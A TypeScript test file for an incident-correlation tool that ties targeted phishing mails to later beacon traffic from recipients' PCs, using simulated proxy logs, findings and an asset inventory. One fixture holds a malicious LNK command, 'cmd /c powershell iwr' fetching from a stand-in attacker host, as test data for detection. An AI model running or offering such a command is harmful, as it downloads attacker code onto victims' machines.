import assert from 'node:assert/strict'
import { after, before, beforeEach, test } from 'node:test'
import type { Detector } from '../detect/detector.ts'
import { minutes, type Organisation, organisation } from '../detect/test-organisation.ts'
import { loadLists } from '../lists/index.ts'
import type { Finding, MailRow } from '../report/findings.ts'
import type { Owner } from './inventory.ts'
import type { MailFacts } from './mail-facts.ts'
import { mailStories } from './mail-story.ts'
import { ANY_LOG } from './present.ts'

const DELIVERED = 1500 // minutes since the office's first midnight
const ANY = { id: 'any', parameters: [] } as unknown as Detector

let office: Organisation
before(async () => {
  office = await organisation(20)
})
after(async () => await office.close())
beforeEach(async () => {
  await office.clear()
  for (let i = 1; i < 10; i++) await office.web(`10.0.1.${i}`, 'www.known.co.jp', minutes(500, 3000, 200))
})

const time = new Date(Date.parse('2026-10-04T15:00:00Z') + DELIVERED * 60_000).toISOString().replace('.000', '')

async function stories(
  names: { links?: string[]; details?: string[]; recipient?: string; inventory?: Owner[] },
  findings: Finding[] = [],
) {
  const row = {
    mail: 'a.eml',
    kind: '標的型',
    recipients: [names.recipient ?? 'sato@own.co.jp'],
    subject: '資料',
    from: 'x@partner.co.jp',
    time,
  } as MailRow
  const facts = {
    mail_id: 'm1',
    file: 'a.eml',
    time,
    from_domain: 'partner.co.jp',
    to: ['sato@own.co.jp'],
    cc: [],
    delivered_to: [],
    evidence_id: 'e',
    line: 1,
    links: (names.links ?? []).map((domain) => ({
      url: `https://${domain}/x`,
      url_domain: domain,
      shown: '',
      source: 'text',
    })),
    items: [{ traits: (names.details ?? []).map((detail) => ({ trait: 'lnk-command', detail })) }],
  } as unknown as MailFacts
  const { roles } = await office.context(ANY)
  return await mailStories(office.engine, [row], new Map([['a.eml', facts]]), findings, {
    lists: loadLists(),
    roles,
    hasLeases: false,
    present: ANY_LOG,
    inventory: names.inventory ?? [],
    lang: 'en',
  })
}

const sign = (host: string, destination: string): Finding =>
  ({
    id: 'f1',
    severity: 'high',
    title: 'beacon',
    hosts: [host],
    destinations: [destination],
    first_seen: '2026-10-06T00:00:00Z',
  }) as unknown as Finding

test('a host that goes where the attachment would, after the mail came, opened it', async () => {
  await office.web('10.0.1.7', 'evil.example.net', [DELIVERED + 12, DELIVERED + 20])
  const [story] = await stories({ details: ['cmd /c powershell iwr https://evil.example.net/a'] })
  assert.deepEqual([story?.host, story?.link, story?.destinations], ['10.0.1.7', 'named-place', ['evil.example.net']])
  assert.match(story?.text ?? '', /^12 minutes after/)
  assert.deepEqual(
    story?.steps.map((step) => step.what),
    ['delivered', 'contacted'],
  )
})

test('what was contacted before the mail, what everybody knows, and the parties themselves tell nothing', async () => {
  await office.web('10.0.1.7', 'evil.example.net', [DELIVERED - 30])
  await office.web('10.0.1.7', 'www.known.co.jp', [DELIVERED + 10])
  await office.web('10.0.1.7', 'www.partner.co.jp', [DELIVERED + 10])
  assert.deepEqual(await stories({ links: ['evil.example.net', 'www.known.co.jp', 'www.partner.co.jp'] }), [])
})

test("a recipient's PC that soon goes to a new place with a serious sign was perhaps infected by the mail", async () => {
  await office.web('10.0.1.7', 'www.known.co.jp', [DELIVERED + 1], { user_name: 'sato' })
  await office.web('10.0.1.7', 'c2.example.org', minutes(DELIVERED + 40, DELIVERED + 900, 10))
  const [story] = await stories({}, [sign('10.0.1.7', 'c2.example.org')])
  assert.deepEqual(
    [story?.host, story?.recipient, story?.link],
    ['10.0.1.7', 'sato@own.co.jp', 'recipient-first-contact'],
  )
  assert.equal(story?.steps.at(-1)?.finding, 'f1')
})

test('where no log tells whose a PC is, the inventory does; where one does, the log is believed', async () => {
  await office.web('10.0.1.7', 'c2.example.org', minutes(DELIVERED + 40, DELIVERED + 900, 10))
  const found = [sign('10.0.1.7', 'c2.example.org')]
  assert.deepEqual(await stories({}, found), [])
  const inventory = [{ person: 'sato', hosts: ['PC-77', '10.0.1.7'] }]
  assert.equal((await stories({ inventory }, found))[0]?.recipient, 'sato@own.co.jp')
  await office.web('10.0.1.8', 'www.known.co.jp', [DELIVERED + 1], { user_name: 'sato' })
  assert.deepEqual(await stories({ inventory }, found), [])
})

test("somebody else's PC, an older contact, or a place without a sign is no story", async () => {
  await office.web('10.0.1.7', 'www.known.co.jp', [DELIVERED + 1], { user_name: 'sato' })
  await office.web('10.0.1.7', 'new.example.org', [DELIVERED + 40])
  await office.web('10.0.1.7', 'old.example.org', [DELIVERED - 300, DELIVERED + 40])
  await office.web('10.0.1.8', 'c2.example.org', [DELIVERED + 40])
  assert.deepEqual(await stories({}, [sign('10.0.1.8', 'c2.example.org'), sign('10.0.1.7', 'old.example.org')]), [])
})
